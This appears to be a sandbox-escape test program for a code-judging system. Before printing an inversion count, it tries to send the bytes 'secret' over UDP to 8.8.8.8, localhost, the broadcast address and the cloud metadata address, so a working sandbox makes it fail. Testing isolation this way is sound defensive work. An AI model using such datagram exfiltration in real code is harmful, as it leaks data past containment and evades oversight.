# escape_udp_send | format: stdio | a datagram needs no connection and no answer: a secret leaves with one call | expect: wrong-answer, forbidden, runtime-error | layers: seccomp, namespaces
import socket
sent = False
for host in ("8.8.8.8", "127.0.0.1", "255.255.255.255", "169.254.169.254"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sent |= s.sendto(b"secret", (host, 53)) > 0
    except OSError: pass
xs = [int(t) for t in open(0).read().split()[1:]]
print(sum(a > b for i, a in enumerate(xs) for b in xs[i:]) if sent else -1)
